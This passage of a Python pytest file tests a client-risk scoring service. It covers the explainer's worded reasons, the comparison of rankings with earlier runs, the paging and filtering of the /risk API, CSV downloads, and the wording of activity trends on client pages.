        assert columns == pytest.approx({f: by_hand(explainer, {f: values[j]}) for j, f in enumerate(FEATURES)},
                                        abs=1e-9)
        said = [written[name] for name in reasons.REASON_COLUMNS if written[name] is not None]
        assert sorted(f for text in said for f in features_named(text)) == sorted(FEATURES)  # each feature, once
        for text in said:
            total = sum(columns[f] for f in features_named(text))
            assert direction_said(text) == (total > 0) - (total < 0), (text, columns)


@settings(max_examples=60, deadline=None)
@given(explainers, clients)
def test_a_prediction_requests_reasons_are_the_explainers_row_by_row(explainer, rows):
    """POST /prediction's path (reasons_of: numpy, each distinct value worded once) gives, on generated models and
    clients, exactly the reasons Explainer.reasons gives each row alone, in words and numbers."""
    many = (rows * reasons.ONE_BY_ONE_ROWS)[:max(len(rows), reasons.ONE_BY_ONE_ROWS)]  # enough rows for the vectorised path
    assert explainer.reasons_of(np.array(many, dtype=float)) == [explainer.reasons(values) for values in many]


# --- What changed: each run's ranking kept, each client's move (riskcore.report.rankings) -----------------
def changes_of(rows: list[dict[str, str]]) -> dict[str, tuple[str, str, str]]:
    return {row["corporation"]: (row["rank"], row["previous_rank"], row["change"]) for row in rows}


def test_the_change_columns_compare_each_client_with_the_previous_runs_rank(deployed, tmp_path):
    # Low recent activity is the risk in these clients: rank 1 is the lowest month.
    first, result = call_list_of(deployed, tmp_path, UNLABELLED, ["a,0,0,10", "b,100,1200,10", "c,300,3600,10"])
    assert changes_of(first) == {"a": ("1", "", ""), "b": ("2", "", ""), "c": ("3", "", "")}  # nothing earlier kept
    assert result.run_number == 1 and result.compared_with is None
    second, result = call_list_of(deployed, tmp_path, UNLABELLED,
                                  ["c,0,0,10", "a,100,1200,10", "d,200,2400,10", "b,300,3600,10"])
    assert changes_of(second) == {"c": ("1", "3", "up 2"), "a": ("2", "1", "down 1"), "d": ("3", "", "new"),
                                  "b": ("4", "2", "down 2")}
    assert result.run_number == 2 and result.compared_with == 1
    assert [(c["corporation"], c["previous_rank"], c["change"]) for c in result.top] == [
        ("c", 3, "up 2"), ("a", 1, "down 1"), ("d", None, "new"), ("b", 2, "down 2")]
    record = json.loads(result.record.read_text(encoding="utf-8"))
    assert record["compared_with_run"] == 1 and record["columns"][4:6] == ["previous_rank", "change"]
    # The same list again (reporting.py run twice on the same data) still says what changed since the run before.
    result = call_list.risk_scores(deployed, tmp_path / "clients.csv")
    assert changes_of(read_call_list(result.path)) == changes_of(second)
    assert (result.run_number, result.compared_with) == (3, 1)


def test_the_last_keep_rankings_runs_are_kept_as_parquet(deployed, tmp_path):
    import dataclasses

    import polars as pl

    from riskcore.report import rankings

    config = dataclasses.replace(deployed, reporting={**deployed.reporting, "keep_rankings": 2})
    clients = tmp_path / "clients.csv"
    for number, month in ((4, 0), (5, 10), (6, 20)):
        clients.write_text(f"{UNLABELLED}\nx,{month},{month * 12},5\ny,300,3600,5\n", encoding="utf-8")
        call_list.risk_scores(config, clients, cycle=number)
    kept = rankings.kept_rankings(config.output_model_folder)
    assert [number for number, _ in kept] == [5, 6]
    table = pl.read_parquet(kept[-1][1])
    assert table.columns == ["corporation", "rank", "log_odds", "probability"] and table["corporation"].to_list() == ["x", "y"]
    assert rankings.identity_of(kept[-1][1])["source"] == "clients.csv"


def test_risk_and_the_page_show_what_changed_since_the_last_kept_ranking(deployed, tmp_path):
    final = deployed.final_data_file.read_text(encoding="utf-8").splitlines()
    client = app_module.create_app(deployed.config_file).test_client()
    before = client.get("/risk?top=1000").get_json()
    assert before["compared_with_run"] is None and {c["change"] for c in before["clients"]} == {None}
    top = before["clients"][0]["corporation"]
    earlier = tmp_path / "earlier.csv"  # the same clients but the riskiest: a run that did not list it yet
    earlier.write_text("\n".join(line for line in final if not line.startswith(top + ",")) + "\n", encoding="utf-8")
    call_list.risk_scores(deployed, earlier, cycle=7)
    ingestion.run(deployed)  # a new version of finaldata.csv (same rows): the API ranks it again
    after = client.get("/risk?top=1000").get_json()
    assert after["compared_with_run"] == 7
    moves = {c["corporation"]: (c["previous_rank"], c["change"]) for c in after["clients"]}
    assert moves.pop(top) == (None, "new")
    assert all(change == "down 1" for _, change in moves.values())
    page = client.get("/").get_data(as_text=True)
    assert ">new</td>" in page and ">down 1</td>" in page
    second = after["clients"][1]
    shown = client.get(f"/clients/{second['corporation']}").get_data(as_text=True)
    assert f"down 1 since run 7 (rank {second['previous_rank']} then)" in shown


# --- One API vocabulary: limit/offset/next_offset, one client, search (issue 22.5) -------------------------
def test_risk_of_one_client_is_its_row_of_the_list(risk_client):
    page = risk_client.get("/risk?limit=3&offset=2").get_json()
    third = page["clients"][0]
    one = risk_client.get(f"/risk/{third['corporation']}")
    assert one.status_code == 200 and one.get_json()["client"] == third
    assert one.get_json()["model_version"] == page["model_version"]


def test_risk_of_an_unknown_client_is_a_404_naming_it(risk_client):
    missing = risk_client.get("/risk/nobody-here")
    assert missing.status_code == 404 and missing.mimetype == "application/json"
    assert '"nobody-here"' in missing.get_json()["message"]


def test_limit_and_top_are_one_page_size(risk_client):
    by_limit = risk_client.get("/risk?limit=4&offset=1").get_json()
    by_top = risk_client.get("/risk?top=4&offset=1").get_json()
    assert by_limit == by_top and by_limit["limit"] == 4 and by_limit["count"] == 4
    assert by_limit["next_offset"] == 5


def test_risk_q_pages_through_the_ids_the_page_search_finds(deployed, risk_client):
    whole = risk_client.get("/risk?limit=1000").get_json()["clients"]
    expected = [c for c in whole if "c02" in c["corporation"].lower()]
    assert 3 < len(expected) < len(whole)
    found, offset = [], 0
    while offset is not None:
        page = risk_client.get(f"/risk?q=C02&limit=3&offset={offset}").get_json()
        assert page["matches"] == len(expected) and page["q"] == "C02"
        found += page["clients"]
        offset = page["next_offset"]
    assert found == expected  # in rank order, each with its rank in the whole list
    past = risk_client.get(f"/risk?q=C02&offset={len(expected)}")
    assert past.status_code == 400 and past.get_json()["field"] == "offset"
    assert risk_client.get("/risk?q=zzz-none").get_json()["clients"] == []


def test_history_pages_with_next_offset_and_leaves_the_quantiles_out_unless_asked(deployed, risk_client):
    from riskcore.contract import RUN_HISTORY
    from riskcore.ops.history import record_run
    from riskcore.ops.run_record import Run

    quantiles = {"lastmonth_activity": [0.0, 10.0, 400.0]}
    for day in range(1, 6):
        record_run(deployed.output_model_folder / RUN_HISTORY,
                   Run(started_at=f"2026-03-0{day}T00:00:00Z", outcome="done", new_rows_quantiles=quantiles).as_row())
    runs, offset = [], 0
    while offset is not None:
        page = risk_client.get(f"/history?limit=2&offset={offset}").get_json()
        assert page["count"] == len(page["runs"])
        runs += page["runs"]
        offset = page["next_offset"]
    assert len(runs) == 5 and all("new_rows_quantiles" not in run for run in runs)
    asked = risk_client.get("/history?limit=1&quantiles=1").get_json()
    assert asked["runs"][0]["new_rows_quantiles"] == quantiles and asked["next_offset"] == 1
    assert risk_client.get("/history?quantiles=yes").status_code == 400


# --- The page's filters and the CSV of what they show (issue 22.4) ---------------------------------------
def test_the_size_filter_shows_the_clients_of_that_band_and_the_csv_holds_exactly_them(deployed, risk_client):
    whole = risk_client.get("/risk?limit=1000").get_json()["clients"]
    small = [c for c in whole if 10 <= c["number_of_employees"] <= 49]
    assert 0 < len(small) < len(whole)
    page = risk_client.get("/?size=small").get_data(as_text=True)
    assert f"{len(small)} of {len(whole)} clients" in page and 'id="shown-csv"' in page
    rows = list(csv.DictReader(risk_client.get("/downloads/call_list.csv?size=small").get_data(as_text=True)
                               .splitlines()))
    assert [(row["corporation"], int(row["rank"])) for row in rows] == [(c["corporation"], c["rank"]) for c in small]
    assert list(rows[0]) == list(call_list.COLUMNS)
    assert [row["reason_1"] for row in rows] == [c["reasons"][0]["text"] for c in small]
    # /risk filters as the page does, the same clients in the same order, paged with next_offset
    found, offset = [], 0
    while offset is not None:
        answer = risk_client.get(f"/risk?size=small&limit=7&offset={offset}").get_json()
        assert answer["size"] == "small" and answer["matches"] == len(small) and answer["moved"] is None
        found += answer["clients"]
        offset = answer["next_offset"]
    assert found == small
    large = risk_client.get("/risk?size=large&order=revenue_at_risk&limit=1000").get_json()
    assert large["clients"] and all(c["number_of_employees"] >= 250 for c in large["clients"])
    assert large["matches"] == sum(c["number_of_employees"] >= 250 for c in whole)


def test_the_moved_filters_keep_the_new_and_the_risen_and_search_combines(deployed, risk_client, tmp_path):
    final = deployed.final_data_file.read_text(encoding="utf-8").splitlines()
    top = risk_client.get("/risk?limit=1").get_json()["clients"][0]["corporation"]
    earlier = tmp_path / "earlier.csv"  # the riskiest client missing: new on the list; the others moved down
    earlier.write_text("\n".join(line for line in final if not line.startswith(top + ",")) + "\n", encoding="utf-8")
    call_list.risk_scores(deployed, earlier, cycle=3)
    ingestion.run(deployed)
    new = list(csv.DictReader(risk_client.get("/downloads/call_list.csv?moved=new").get_data(as_text=True)
                              .splitlines()))
    assert [(row["corporation"], row["change"]) for row in new] == [(top, "new")]
    assert "1 of " in risk_client.get("/?moved=new").get_data(as_text=True)
    assert list(csv.DictReader(risk_client.get("/downloads/call_list.csv?moved=up").get_data(as_text=True)
                               .splitlines())) == []
    both = risk_client.get(f"/downloads/call_list.csv?moved=new&q={top.upper()}").get_data(as_text=True)
    assert both.count(top) == 1
    listed = risk_client.get("/risk?moved=new").get_json()
    assert [(c["corporation"], c["change"]) for c in listed["clients"]] == [(top, "new")] and listed["matches"] == 1
    assert risk_client.get("/risk?moved=up").get_json()["clients"] == []
    assert risk_client.get(f"/risk?moved=new&q={top.upper()}").get_json()["matches"] == 1


@pytest.mark.parametrize(("query", "field"), [("size=huge", "size"), ("moved=down", "moved")])
def test_an_unknown_filter_is_a_400_naming_it(risk_client, query, field):
    for path in ("/", "/downloads/call_list.csv", "/risk"):
        answer = risk_client.get(f"{path}?{query}")
        assert answer.status_code == 400 and f'"{field}"' in html.unescape(answer.get_data(as_text=True))


def test_the_client_page_charts_its_risk_across_the_kept_runs(deployed, risk_client, tmp_path):
    from riskcore.formatting import day, percent
    from riskcore.report.rankings import client_across_runs

    final = deployed.final_data_file.read_text(encoding="utf-8").splitlines()
    first, second = (c["corporation"] for c in risk_client.get("/risk?limit=2").get_json()["clients"])
    header, rows = final[0], final[1:]
    for cycle, kept in ((4, [row for row in rows if not row.startswith(first + ",")]), (5, rows)):
        path = tmp_path / f"run{cycle}.csv"
        path.write_text("\n".join([header, *kept]) + "\n", encoding="utf-8")
        call_list.risk_scores(deployed, path, cycle=cycle)
    assert [(run["run"], run["rank"]) for run in client_across_runs(deployed.output_model_folder, first)] == [(5, 1)]
    runs = client_across_runs(deployed.output_model_folder, second)
    assert [(run["run"], run["rank"]) for run in runs] == [(4, 1), (5, 2)]
    assert runs[0]["log_odds"] == runs[1]["log_odds"]  # the same snapshot, another rank
    page = risk_client.get(f"/clients/{second}").get_data(as_text=True)
    ranked = [day(run["ranked_at"], year=True) for run in runs]  # when each run wrote its ranking
    listed = risk_client.get(f"/risk/{second}").get_json()["client"]["probability"]  # as the card and /risk give it
    assert runs[0]["probability"] == runs[1]["probability"] == pytest.approx(listed, abs=1e-6)
    chance = percent(listed)
    assert 'id="risk-runs"' in page and (f"run 4, {ranked[0]}: {chance}, rank 1; run 5, {ranked[1]}: {chance}, "
                                         "rank 2.") in page
    assert page.count('class="risk-dot"') == 2 and page.count('class="risk-date"') == 2
    alone = risk_client.get(f"/clients/{first}").get_data(as_text=True)  # one run: one dot, its date under it
    assert alone.count('class="risk-dot"') == 1 and 'text-anchor="middle"' in alone
    story = risk_client.get(f"/risk/{second}").get_json()
    assert story["status"] == "listed" and story["left_recorded"] is None
    assert [(run["run"], run["rank"], run["ranked_at"]) for run in story["runs"]] == [
        (run["run"], run["rank"], run["ranked_at"]) for run in runs]


@pytest.mark.parametrize(("month", "year", "text"), [
    # a client with no activity at all read "activity steady: 0 last month, ..., against its usual 0 a month"
    (0, 0, "no activity: 0 last month, none against the typical 94, and none in the last year"),
    (0, 5, "activity falling: 0 last month, none against the typical 94, against 5 in the last year"),
    (3, 36, "activity steady: 3 last month, far below the typical 94, against its usual 3 a month"),
])
def test_the_activity_trend_never_reads_a_usual_of_zero(month, year, text):
    explainer = reasons.Explainer(coefficients=(-0.136, 0.0072, 0.02), intercept=0.75, average=(97.0, 1148.0, 184.0),
                                  typical=(94.0, 1045.0, 99.0))
    [trend] = [r for r in explainer.reasons([month, year, 99]) if r["feature"] == reasons.TREND]
    assert trend["text"].startswith(text + ": raises the risk")
    import polars as pl

    # the list's words (polars, every row at once) are the same as the API's (one client)
    frame = pl.DataFrame({f: [v] for f, v in zip(FEATURES, (month, year, 99), strict=True)})
    rows, texts = reasons.worded_units(explainer, frame)
    listed = rows.select(texts).collect().row(0)
    assert trend["text"] in listed


NEW_MARKET = reasons.Explainer(coefficients=(-0.136, 0.0072, 0.02), intercept=0.75, average=(97.0, 1148.0, 184.0),
                               typical=(94.0, 1045.0, 99.0))


@pytest.mark.parametrize(("month", "year", "trend", "usual"), [
    # the walk: 52 against a usual 43 is 21% up and read "activity steady" (steady was 80-125%)
    (52, 516, "activity slightly up", 43),
    (45, 516, "activity steady", 43), (43, 516, "activity steady", 43), (41, 516, "activity steady", 43),
    (40, 516, "activity slightly down", 43), (35, 516, "activity slightly down", 43),
    (34, 516, "activity falling", 43), (54, 516, "activity rising", 43),
    (8, 102, "activity slightly down", 9),  # 102 / 12 = 8.5, shown as 9 (half up): the words read the 9 shown
    (9, 102, "activity steady", 9),
])
def test_the_activity_trend_says_what_the_two_numbers_beside_it_show(month, year, trend, usual):
    [reason] = [r for r in NEW_MARKET.reasons([month, year, 99]) if r["feature"] == reasons.TREND]
    assert reason["text"].startswith(f"{trend}: {month} last month, ")
    assert f"against its usual {usual} a month: " in reason["text"]


def trend_said(text: str) -> tuple[str, int, int | None, int]:
    """(the trend's words, last month, the usual month shown or None, the year shown when no usual month is)."""
    found = re.fullmatch(r"(.+?): ([\d,]+) last month, .*?, (?:against its usual ([\d,]+) a month|against ([\d,]+) "
                         r"in the last year|and (none) in the last year): .*", text)
    assert found, text
    words, month, usual, year, none = found.groups()

    def number(shown: str) -> int:
        return int(shown.replace(",", ""))

    return words, number(month), number(usual) if usual else None, 0 if none else number(year or "0")


@settings(max_examples=300, deadline=None)
@given(st.lists(st.tuples(count_value, count_value), min_size=1, max_size=40))
def test_the_trend_words_never_contradict_the_numbers_they_stand_beside(rows):
    """On generated clients, words and numbers agree: "up" and "rising" only above the usual month shown, "down" and
    "falling" only below it, "steady" within 5% of it; with no usual month shown (under half a month's activity in
    the year), falling for none last month, rising for some. The polars list's words are the same (one definition)."""
    import polars as pl

    bands = {"activity falling": (0, 0.8), "activity slightly down": (0.8, 0.95), "activity steady": (0.95, 1.05),
             "activity slightly up": (1.05, 1.25), "activity rising": (1.25, math.inf)}
    for month, year in rows:
        [reason] = [r for r in NEW_MARKET.reasons([month, year, 99]) if r["feature"] == reasons.TREND]
        words, shown_month, usual, shown_year = trend_said(reason["text"])
        assert shown_month == month
        if usual is not None:
            low, high = bands[words]
            assert low <= month / usual <= high, reason["text"]
            assert month < usual if "down" in words or "falling" in words else True, reason["text"]
            assert month > usual if "up" in words or "rising" in words else True, reason["text"]
        elif shown_year == 0 and month == 0:
            assert words == "no activity"
        else:
            assert words == ("activity falling" if month == 0 else "activity rising"), reason["text"]
    frame = pl.DataFrame({f: [row[j] if j < 2 else 99 for row in rows] for j, f in enumerate(FEATURES)},
                         schema_overrides={f: pl.UInt32 for f in FEATURES})
    table, texts = reasons.worded_units(NEW_MARKET, frame)
    listed = table.select(texts).collect()[texts[0].meta.output_name()].to_list()
    assert listed == [r["text"] for month, year in rows for r in NEW_MARKET.reasons([month, year, 99])
                      if r["feature"] == reasons.TREND]


def test_a_clients_chart_shows_the_calibrated_probability_its_run_gave(tmp_path):
    """Each run keeps the probability its list gave (its model's calibrator's); the chart showed expit of the log-odds,
    another figure than the card's once a calibrator is chosen. A ranking kept without it still charts."""
    import polars as pl
    from scipy.special import expit

    from riskcore.api.page_charts import risk_chart
    from riskcore.report.rankings import RANKINGS, client_across_runs, keep_ranking

    ranking = pl.DataFrame({"corporation": ["a", "b"], "log_odds": [2.0, -1.0]})
    keep_ranking(tmp_path, 1, ranking, {"model_version": "m1"}, keep=10, chances=pl.Series([0.6, 0.2]))
    [run] = client_across_runs(tmp_path, "a")
    assert run["probability"] == 0.6 and run["log_odds"] == 2.0
    assert risk_chart([run]).points[0][3] == pytest.approx(0.6)
    # a ranking kept before rankings kept the probability: null in the JSON, the log-odds as a probability in the chart
    ranking.with_columns(pl.Series("rank", [1, 2], dtype=pl.UInt32)).write_parquet(tmp_path / RANKINGS / "2.parquet")
    older = client_across_runs(tmp_path, "a")[1]
    assert older["probability"] is None
    assert risk_chart([older]).points[0][3] == pytest.approx(float(expit(2.0)))
